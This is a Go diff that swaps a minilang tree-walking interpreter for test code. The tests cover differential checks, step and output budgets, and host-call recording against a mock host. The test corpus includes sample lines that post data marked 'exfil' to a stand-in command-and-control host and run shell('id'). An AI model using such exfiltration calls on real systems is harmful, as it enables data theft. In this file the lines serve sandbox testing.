@@ -1,230 +1,367 @@
 package minilang
 
-import "strings"
+import (
+	"crypto/sha256"
+	"errors"
+	"fmt"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
 
-// breakSignal unwinds out of the innermost loop.
-type breakSignal struct{}
-
-func (breakSignal) Error() string { return "break outside loop" }
-
-// Interp executes programs against a Host by walking the AST. It is
-// the reference engine: the bytecode VM is differentially tested
-// against it (FuzzVMMatchesInterp) and must match its observable
-// behavior exactly.
-type Interp struct {
-	rt
-	vars map[string]Value
+// corpus covers every language construct, every error class, and host
+// traffic. FuzzInterp seeds with it; TestSharedSessionState runs it as
+// one kernel session.
+var corpus = []string{
+	"x = 1 + 2 * 3\nprint(x)",
+	`print("a" + "b", 1 < 2, [1, 2, 3])`,
+	"print(-5 + 3)",
+	"print(not 0, not [], not \"x\")",
+	"n = spin(0)\nprint(1 == 1, 1 != 2, n == 3, n == n, str(n))",
+	"x = [10, 20, 30]\nprint(x[0], x[-1], x[1 + 1])",
+	"x = \"hello\"\nprint(x[1], x[-1])",
+	"print([1,2][5])",
+	"print(\"abc\"[-9])",
+	"print([1][\"a\"])",
+	"print(5[0])",
+	"total = 0\nfor i in range(100)\ntotal = total + i\nend\nprint(total)",
+	"a = 0\nb = 1\nn = 0\nwhile n < 20\nt = a + b\na = b\nb = t\nn = n + 1\nend\nprint(a)",
+	"break",
+	"if 1\nbreak\nend",
+	"i = 0\nwhile 1\ni = i + 1\nif i > 3\nbreak\nend\nend\nprint(i)",
+	"while 0\nshell(\"never\")\nend\nprint(\"after\")",
+	"for x in [1, 2, 3]\nif x == 2\nbreak\nend\nprint(x)\nend\nprint(x)",
+	"for ln in \"alpha\\nbeta\"\nprint(ln)\nend",
+	"for ln in read_file(\"/data/a.txt\")\nprint(ln)\nend",
+	"for x in 42\nprint(x)\nend",
+	"if 1 > 2\nprint(\"no\")\nelse\nprint(\"yes\")\nend",
+	"if 2 > 1\nprint(\"yes\")\nend",
+	"if 0\nshell(\"dead\")\nelse\nprint(\"live\")\nend",
+	"x = 0 and nope()\nprint(x)",
+	"x = 1 or nope()\nprint(x)",
+	"x = 1 and \"s\"\nprint(x)",
+	"x = 0 or []\nprint(x)",
+	"x = len(\"ab\") and 1 + 2\nprint(x)",
+	"nope()",
+	"len()",
+	"len(1, 2)",
+	"print(1 + \"a\")",
+	"print([1] < [2])",
+	"print(1 / 0)",
+	"print(5 % 0)",
+	"print(1 % 0.5)",
+	"print(7 % -2.9, -7 % 2.9)",
+	"print(7 % 3, 10 / 4)",
+	"print(\"ab\" * 3)",
+	"print(\"a\" * -1)",
+	"print(nosuchvar)",
+	"x = num(\"nan\")\nprint(x < 1, x > 1, x <= 1, x >= 1, x == x)",
+	"print(num(\"3.5\") + num(\"  2 \"))",
+	"print(num(\"bogus\"))",
+	"x = [1, 2]\nx = append(x, 3)\nprint(x, len(x))",
+	"print(join(split(\"a,b,c\", \",\"), \"-\"))",
+	"print(contains(\"hay\", \"a\"), upper(\"ab\"), lower(\"AB\"))",
+	"print(sha256(\"x\"))",
+	"print(b64encode(\"hi\"), b64decode(\"aGk=\"))",
+	"print(b64decode(\"!!!\"))",
+	"c = encrypt(\"secret\", \"k\")\nprint(decrypt(c, \"k\"))",
+	"print(str(3.5) + str([1, \"a\", [2]]))",
+	"print(read_file(\"/data/a.txt\"))",
+	"print(read_file(\"/missing\"))",
+	"write_file(\"/tmp/x\", \"payload\")\nprint(read_file(\"/tmp/x\"))",
+	"write_file(\"/tmp/y\", \"v\")\nrename_file(\"/tmp/y\", \"/tmp/z\")\ndelete_file(\"/tmp/z\")",
+	"delete_file(\"/missing\")",
+	"for f in list_files(\"/data\")\nprint(f)\nend",
+	"print(http_get(\"http://c2.example/x\"))",
+	"print(http_post(\"http://c2.example/x\", \"exfil\"))",
+	"print(shell(\"id\"))",
+	"spin(5)\nspin(3)",
+	"print(hostname(), env(\"USER\"), env(\"NOPE\"))",
+	"1 + 2\nprint(3)",
+	"x = [1,\n2]\nprint(x)",
+	"x = range(3)\nfor i in x\nfor j in x\nif j == 1\nbreak\nend\nprint(i, j)\nend\nend",
+	"while 1\nbreak\nend\nprint(\"out\")",
+	"x = 1\nwhile x < 100 and 1\nx = x * 2\nend\nprint(x)",
+	"print(2 + 3 == 5 and (1 or 0))",
+	"print(len(range(0)))",
+	"range(-1)",
+	"spin(0 - 4)",
 }
 
-// NewInterp returns a tree-walking interpreter bound to host.
-func NewInterp(host Host, limits Limits) *Interp {
-	return &Interp{
-		rt: rt{
-			host:   host,
-			limits: limits.withDefaults(),
-			stdout: &strings.Builder{},
-		},
-		vars: map[string]Value{},
+// outcome is everything a Run can be seen to do: its error, its
+// stdout, the namespace after it, every host call so far, and the
+// usage counters.
+type outcome struct {
+	Err      string
+	Stdout   string
+	Vars     map[string]string
+	Calls    []string
+	Counters Counters
+}
+
+func (h *harness) step(src string) outcome {
+	out, err := h.exec(src)
+	return outcome{
+		Err:      fmt.Sprint(err),
+		Stdout:   out,
+		Vars:     dumpVars(h.in.Vars()),
+		Calls:    slices.Clone(h.host.calls),
+		Counters: h.in.Counters(),
 	}
 }
 
-// Vars exposes the variable environment (persistent across Run calls,
-// like a kernel namespace across cells).
-func (in *Interp) Vars() map[string]Value { return in.vars }
+// stepTwins runs src on a and b, two interpreters on identical hosts,
+// and fails unless both outcomes are the same: what a cell does may
+// depend only on its program, its host and its limits.
+func stepTwins(t *testing.T, a, b *harness, src string) outcome {
+	t.Helper()
+	oa, ob := a.step(src), b.step(src)
+	if !reflect.DeepEqual(oa, ob) {
+		t.Fatalf("two interpreters disagree on %q:\n  %+v\n  %+v", src, oa, ob)
+	}
+	return oa
+}
 
-// Run parses and executes src. Accumulated stdout is retrieved with
-// TakeStdout. The step budget applies per Run call.
-func (in *Interp) Run(src string) error {
-	prog, err := Parse(src)
+// dumpVars renders a namespace kind-tagged so NaN compares equal to
+// itself and Str("1") stays distinct from Number(1).
+func dumpVars(vars map[string]Value) map[string]string {
+	out := make(map[string]string, len(vars))
+	for k, v := range vars {
+		out[k] = dumpValue(v)
+	}
+	return out
+}
+
+func dumpValue(v Value) string {
+	switch t := v.(type) {
+	case List:
+		parts := make([]string, len(t))
+		for i, e := range t {
+			parts[i] = dumpValue(e)
+		}
+		return "l:[" + strings.Join(parts, ",") + "]"
+	default:
+		return v.valueKind() + ":" + Format(v)
+	}
+}
+
+// TestSharedSessionState runs the whole corpus as one session on two
+// interpreters, so variables, stdout and counters accumulate across
+// Run calls exactly as kernel cells do, and both must agree after
+// every cell.
+func TestSharedSessionState(t *testing.T) {
+	a, b := newHarness(Limits{}), newHarness(Limits{})
+	for _, src := range corpus {
+		stepTwins(t, a, b, src)
+	}
+	if got := a.in.Vars()["total"]; got != Number(4950) {
+		t.Fatalf("total = %v after the session, want 4950 from an early cell", got)
+	}
+}
+
+func TestInterpContract(t *testing.T) {
+	in := NewInterp(newMemHost(), Limits{})
+	if err := in.Run("x = 6 * 7\nprint(x)"); err != nil {
+		t.Fatal(err)
+	}
+	if got := in.TakeStdout(); got != "42\n" {
+		t.Fatalf("stdout = %q", got)
+	}
+	if got := in.Vars()["x"]; got != Number(42) {
+		t.Fatalf("vars[x] = %v", got)
+	}
+	if in.TakeStdout() != "" {
+		t.Fatal("TakeStdout did not clear")
+	}
+}
+
+func isStepLimit(err error) bool {
+	var rt *RuntimeError
+	return errors.As(err, &rt) && rt.EName == "ResourceError" && strings.Contains(rt.Msg, ErrTooManySteps.Error())
+}
+
+// TestStepBudgetThreshold sweeps MaxSteps over loops, branches, host
+// calls and a 40-deep nested sum. Each program fails with the step
+// ResourceError below one threshold — exactly the steps an unlimited
+// run takes — and succeeds identically at and above it. A larger
+// budget only ever extends what a smaller one did: the host calls and
+// stdout at each budget are a prefix of those at the next.
+func TestStepBudgetThreshold(t *testing.T) {
+	progs := []string{
+		"x = 1 + 2 * 3\ny = x + 1\nprint(y)",
+		"total = 0\nfor i in range(5)\ntotal = total + i * 2\nend\nprint(total)",
+		"i = 0\nwhile i < 4\ni = i + 1\nshell(\"tick\")\nend",
+		"while 1\nspin(1)\nbreak\nend",
+		"if 1 + 1 == 2\nwrite_file(\"/t\", \"a\" + \"b\")\nend\nprint(read_file(\"/t\"))",
+		"x = 0\nwhile 1\nx = x + 1\nif x > 2\nbreak\nend\nend\nprint(x)",
+		"for ln in \"a\\nb\\nc\"\nprint(ln, 1 * 2 + 3)\nend",
+		"x = [1, 2, 3]\nprint(x[0 + 1], not 0 and 1)",
+		"x = " + strings.Repeat("1 + (", 40) + "0" + strings.Repeat(")", 40),
+	}
+	for _, src := range progs {
+		full := newHarness(Limits{})
+		fullOut, err := full.exec(src)
+		if err != nil {
+			t.Fatalf("%q: %v", src, err)
+		}
+		need := full.in.steps
+		if need < 2 || need > 150 {
+			t.Fatalf("%q takes %d steps, outside the sweep", src, need)
+		}
+		var prevOut string
+		var prevCalls []string
+		for max := 1; max <= 150; max++ {
+			h := newHarness(Limits{MaxSteps: max})
+			out, err := h.exec(src)
+			switch {
+			case max < need && !isStepLimit(err):
+				t.Fatalf("%q at MaxSteps %d (< %d): err = %v, want the step limit", src, max, need, err)
+			case max >= need && err != nil:
+				t.Fatalf("%q at MaxSteps %d (>= %d): %v", src, max, need, err)
+			case max >= need && (out != fullOut || !slices.Equal(h.host.calls, full.host.calls)):
+				t.Fatalf("%q at MaxSteps %d: stdout %q calls %v, unlimited run %q %v", src, max, out, h.host.calls, fullOut, full.host.calls)
+			}
+			if !strings.HasPrefix(out, prevOut) || len(h.host.calls) < len(prevCalls) || !slices.Equal(h.host.calls[:len(prevCalls)], prevCalls) {
+				t.Fatalf("%q at MaxSteps %d: stdout %q calls %v do not extend %q %v at %d", src, max, out, h.host.calls, prevOut, prevCalls, max-1)
+			}
+			prevOut, prevCalls = out, h.host.calls
+		}
+	}
+}
+
+// TestOutputBudgetSweep sweeps MaxOutputBytes across a program's whole
+// output: stdout never exceeds the budget and is always a prefix of
+// the unlimited output, and the run fails with a ResourceError exactly
+// when the full output does not fit.
+func TestOutputBudgetSweep(t *testing.T) {
+	src := "for i in range(20)\nprint(\"line\", i)\nend\nprint(\"done\")"
+	full := run(t, src)
+	for max := 1; max <= len(full)+8; max++ {
+		out, err := newHarness(Limits{MaxOutputBytes: max}).exec(src)
+		if len(out) > max || !strings.HasPrefix(full, out) {
+			t.Fatalf("MaxOutputBytes %d: stdout %q (%d bytes)", max, out, len(out))
+		}
+		var rt *RuntimeError
+		fits := max >= len(full)
+		if fits && err != nil || !fits && !(errors.As(err, &rt) && rt.EName == "ResourceError") {
+			t.Fatalf("MaxOutputBytes %d (output %d bytes): err = %v", max, len(full), err)
+		}
+	}
+}
+
+// TestStepChargePerNode: a statement costs one step and each expression
+// node one more, so `x = 1 + 2 * 3 - (4 / 2)` (5 literals, 4
+// operators) takes 10 steps.
+func TestStepChargePerNode(t *testing.T) {
+	h := newHarness(Limits{})
+	if _, err := h.exec("x = 1 + 2 * 3 - (4 / 2)"); err != nil {
+		t.Fatal(err)
+	}
+	if h.in.steps != 10 {
+		t.Fatalf("steps = %d, want 10", h.in.steps)
+	}
+	if got := h.in.Vars()["x"]; got != Number(5) {
+		t.Fatalf("x = %v, want 5", got)
+	}
+}
+
+// TestCallsInConstantExpressions: a builtin call inside otherwise
+// literal arithmetic or logic still reaches the host, once each, in
+// source order.
+func TestCallsInConstantExpressions(t *testing.T) {
+	cases := []struct {
+		src   string
+		calls []string
+	}{
+		{"x = 1 + len(shell(\"id\")) * 2", []string{"shell:id"}},
+		{"x = spin(1) == spin(0)", []string{"spin:1", "spin:0"}},
+		{"x = 1 and shell(\"id\")", []string{"shell:id"}},
+		{"x = hostname() and 1", []string{"hostname"}},
+	}
+	for _, c := range cases {
+		h := newHarness(Limits{})
+		if _, err := h.exec(c.src); err != nil {
+			t.Fatalf("%q: %v", c.src, err)
+		}
+		if !slices.Equal(h.host.calls, c.calls) {
+			t.Fatalf("%q: host calls %v, want %v", c.src, h.host.calls, c.calls)
+		}
+	}
+}
+
+// TestRuntimeErrorOnlyWhenReached: an erroring literal expression
+// raises when it runs, at its own line and after the lines before it
+// have printed, and not at all on a path that never runs.
+func TestRuntimeErrorOnlyWhenReached(t *testing.T) {
+	out, err := newHarness(Limits{}).exec("print(\"before\")\nx = 1 / 0\nprint(\"after\")")
+	var rt *RuntimeError
+	if !errors.As(err, &rt) || rt.EName != "ZeroDivisionError" || rt.Line != 2 {
+		t.Fatalf("err = %v, want ZeroDivisionError at line 2", err)
+	}
+	if out != "before\n" {
+		t.Fatalf("stdout = %q, want only the line before the error", out)
+	}
+	if got := run(t, "if 0\nx = 1 / 0\nend\nwhile 0\nx = 5 % 0\nend\nprint(\"ok\")"); got != "ok\n" {
+		t.Fatalf("dead branches: stdout = %q", got)
+	}
+}
+
+// TestDeadBranchesSkipHost: the bodies of `if 0` and `while 0` never
+// run, so their host calls never happen; the live else branch does.
+func TestDeadBranchesSkipHost(t *testing.T) {
+	h := newHarness(Limits{})
+	if _, err := h.exec("if 0\nshell(\"dead\")\nelse\nx = 1\nend\nwhile 0\nshell(\"dead2\")\nend"); err != nil {
+		t.Fatal(err)
+	}
+	if len(h.host.calls) != 0 {
+		t.Fatalf("dead branches called the host: %v", h.host.calls)
+	}
+	if got := h.in.Vars()["x"]; got != Number(1) {
+		t.Fatalf("x = %v, want 1 from the else branch", got)
+	}
+}
+
+func TestBuiltinNamesMemoized(t *testing.T) {
+	a := BuiltinNames()
+	b := BuiltinNames()
+	if len(a) == 0 || &a[0] != &b[0] {
+		t.Fatal("BuiltinNames must return the memoized slice")
+	}
+	for i := 1; i < len(a); i++ {
+		if a[i-1] >= a[i] {
+			t.Fatalf("names not sorted: %q >= %q", a[i-1], a[i])
+		}
+	}
+	if n := testing.AllocsPerRun(100, func() { BuiltinNames() }); n != 0 {
+		t.Fatalf("BuiltinNames allocates %v per call after first use", n)
+	}
+}
+
+// TestXorKeystreamInvalidUTF8: encrypt output is raw bytes, almost
+// never valid UTF-8; concatenation, indexing, comparison, decrypt and
+// sha256 must all treat it byte for byte.
+func TestXorKeystreamInvalidUTF8(t *testing.T) {
+	h := newHarness(Limits{})
+	out, err := h.exec(`c = encrypt("payload-bytes", "k1")
+d = c + c
+print(len(d), d[0] == d[len(c)])
+print(decrypt(c, "k1"))
+e = encrypt(c, "k2")
+print(len(e), sha256(e))`)
 	if err != nil {
-		return err
+		t.Fatal(err)
 	}
-	return in.RunProgram(prog)
-}
-
-// RunProgram executes an already parsed program.
-func (in *Interp) RunProgram(prog *Program) error {
-	in.steps = 0
-	err := in.execBlock(prog.stmts)
-	if _, isBreak := err.(breakSignal); isBreak {
-		return rte(0, "SyntaxError", "break outside loop")
+	c := xorKeystream([]byte("payload-bytes"), "k1")
+	if utf8.ValidString(c) {
+		t.Fatal("ciphertext is valid UTF-8; pick a key that makes it raw bytes")
 	}
-	return err
-}
-
-func (in *Interp) execBlock(stmts []stmtNode) error {
-	for _, s := range stmts {
-		if err := in.exec(s); err != nil {
-			return err
-		}
+	e := xorKeystream([]byte(c), "k2")
+	if want := fmt.Sprintf("26 1\npayload-bytes\n13 %x\n", sha256.Sum256([]byte(e))); out != want {
+		t.Fatalf("out = %q, want %q", out, want)
 	}
-	return nil
-}
-
-func (in *Interp) exec(s stmtNode) error {
-	if err := in.tick(s.line()); err != nil {
-		return err
+	if d := h.in.Vars()["d"]; d != Str(c+c) {
+		t.Fatalf("d = %q, want %q", d, c+c)
 	}
-	switch t := s.(type) {
-	case *assignStmt:
-		v, err := in.eval(t.expr)
-		if err != nil {
-			return err
-		}
-		in.vars[t.name] = v
-		return nil
-	case *exprStmt:
-		_, err := in.eval(t.expr)
-		return err
-	case *breakStmt:
-		return breakSignal{}
-	case *ifStmt:
-		cond, err := in.eval(t.cond)
-		if err != nil {
-			return err
-		}
-		if Truthy(cond) {
-			return in.execBlock(t.then)
-		}
-		return in.execBlock(t.elseBody)
-	case *whileStmt:
-		for {
-			cond, err := in.eval(t.cond)
-			if err != nil {
-				return err
-			}
-			if !Truthy(cond) {
-				return nil
-			}
-			if err := in.execBlock(t.body); err != nil {
-				if _, isBreak := err.(breakSignal); isBreak {
-					return nil
-				}
-				return err
-			}
-			if err := in.tick(t.ln); err != nil {
-				return err
-			}
-		}
-	case *forStmt:
-		iter, err := in.eval(t.iter)
-		if err != nil {
-			return err
-		}
-		list, ok := iter.(List)
-		if !ok {
-			if s, isStr := iter.(Str); isStr {
-				// Iterating a string yields its lines.
-				for _, line := range strings.Split(string(s), "\n") {
-					list = append(list, Str(line))
-				}
-			} else {
-				return rte(t.ln, "TypeError", "for loop needs a list, got %s", iter.valueKind())
-			}
-		}
-		for _, item := range list {
-			in.vars[t.vari] = item
-			if err := in.execBlock(t.body); err != nil {
-				if _, isBreak := err.(breakSignal); isBreak {
-					return nil
-				}
-				return err
-			}
-			if err := in.tick(t.ln); err != nil {
-				return err
-			}
-		}
-		return nil
-	}
-	return rte(s.line(), "InternalError", "unknown statement %T", s)
-}
-
-func (in *Interp) eval(e exprNode) (Value, error) {
-	if err := in.tick(e.line()); err != nil {
-		return nil, err
-	}
-	switch t := e.(type) {
-	case *litExpr:
-		return t.val, nil
-	case *varExpr:
-		v, ok := in.vars[t.name]
-		if !ok {
-			return nil, rte(t.ln, "NameError", "name %q is not defined", t.name)
-		}
-		return v, nil
-	case *listExpr:
-		out := make(List, 0, len(t.items))
-		for _, item := range t.items {
-			v, err := in.eval(item)
-			if err != nil {
-				return nil, err
-			}
-			out = append(out, v)
-		}
-		return out, nil
-	case *notExpr:
-		v, err := in.eval(t.inner)
-		if err != nil {
-			return nil, err
-		}
-		return boolVal(!Truthy(v)), nil
-	case *indexExpr:
-		base, err := in.eval(t.base)
-		if err != nil {
-			return nil, err
-		}
-		idxV, err := in.eval(t.index)
-		if err != nil {
-			return nil, err
-		}
-		return indexValue(base, idxV, t.ln)
-	case *binExpr:
-		return in.evalBin(t)
-	case *callExpr:
-		return in.call(t)
-	}
-	return nil, rte(e.line(), "InternalError", "unknown expression %T", e)
-}
-
-func (in *Interp) evalBin(t *binExpr) (Value, error) {
-	// Short-circuit logicals first.
-	if t.op == tokKwAnd || t.op == tokKwOr {
-		left, err := in.eval(t.left)
-		if err != nil {
-			return nil, err
-		}
-		if t.op == tokKwAnd && !Truthy(left) {
-			return boolVal(false), nil
-		}
-		if t.op == tokKwOr && Truthy(left) {
-			return boolVal(true), nil
-		}
-		right, err := in.eval(t.right)
-		if err != nil {
-			return nil, err
-		}
-		return boolVal(Truthy(right)), nil
-	}
-	left, err := in.eval(t.left)
-	if err != nil {
-		return nil, err
-	}
-	right, err := in.eval(t.right)
-	if err != nil {
-		return nil, err
-	}
-	return applyBin(t.op, left, right, t.ln, in.limits.MaxValueBytes)
-}
-
-// call dispatches a builtin function.
-func (in *Interp) call(t *callExpr) (Value, error) {
-	args := make([]Value, len(t.args))
-	for i, a := range t.args {
-		v, err := in.eval(a)
-		if err != nil {
-			return nil, err
-		}
-		args[i] = v
-	}
-	return invokeBuiltin(&in.rt, t.name, builtins[t.name], t.ln, args)
 }
